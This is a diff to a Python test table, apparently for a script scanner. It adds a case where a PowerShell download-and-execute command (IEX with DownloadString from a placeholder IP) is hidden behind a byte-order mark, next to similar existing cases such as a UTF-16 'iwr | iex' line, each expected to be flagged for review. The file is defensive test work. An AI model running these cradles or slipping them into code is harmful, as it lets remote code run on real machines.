@@ -245,6 +245,9 @@ CASES = {
     "powershell": text(
         "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\r\n", "x.ps1", Verdict.REVIEW
     ),
+    "powershell_behind_a_mark": text(
+        "\ufeffIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\r\n", "x.ps1", Verdict.REVIEW
+    ),
     "powershell_utf16": Case(
         lambda: "iwr http://192.0.2.1/a.ps1 | iex\r\n".encode("utf-16"), "x.ps1", Verdict.REVIEW, cut_is_clean=True
     ),
